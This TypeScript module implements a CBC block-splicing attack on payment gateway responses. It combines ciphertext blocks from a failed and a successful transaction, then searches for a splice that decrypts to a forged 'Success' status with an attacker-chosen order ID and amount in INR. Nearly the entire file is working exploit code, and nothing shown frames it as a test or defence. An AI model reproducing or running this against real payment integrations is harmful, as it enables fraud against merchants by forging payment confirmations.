import { decryptCbcLeniently, encryptMessage } from './crypto.ts';

const BLOCK = 16;
const SHIFTS = [0, 1, -1, 2, -2, 3, -3];

export type Forgery = { order_id: string; amount: string };

/** Joins CBC blocks of two genuine answers into a false success (docs/payments.md 1.1); undefined: impossible. */
export function spliced(failed: string, succeeded: string, workingKey: string, wanted: Forgery): string | undefined {
  const own = Buffer.from(encryptMessage(failed, workingKey), 'hex');
  const other = Buffer.from(encryptMessage(succeeded, workingKey), 'hex');
  for (const joint of joints(own, other)) {
    const text = decryptCbcLeniently(joint, workingKey);
    if (text && looksPaid(text, wanted)) return joint.toString('hex');
  }
  return undefined;
}

function* joints(own: Buffer, other: Buffer): Generator<Buffer> {
  const blocks = other.length / BLOCK;
  for (let start = 1; start < blocks; start += 1) {
    for (let end = start + 1; end < blocks; end += 1) {
      for (const shift of SHIFTS) {
        if (end + shift < start) continue;
        const parts = [own.subarray(0, start * BLOCK), other.subarray(start * BLOCK, end * BLOCK)];
        yield Buffer.concat([...parts, own.subarray((end + shift) * BLOCK)]);
      }
    }
  }
}

function looksPaid(text: string, wanted: Forgery): boolean {
  const seen = new Map(text.split('&').map((pair) => [pair.split('=')[0], pair.split('=')[1]]));
  return (
    seen.get('order_id') === wanted.order_id &&
    seen.get('order_status') === 'Success' &&
    seen.get('amount') === wanted.amount &&
    seen.get('currency') === 'INR'
  );
}
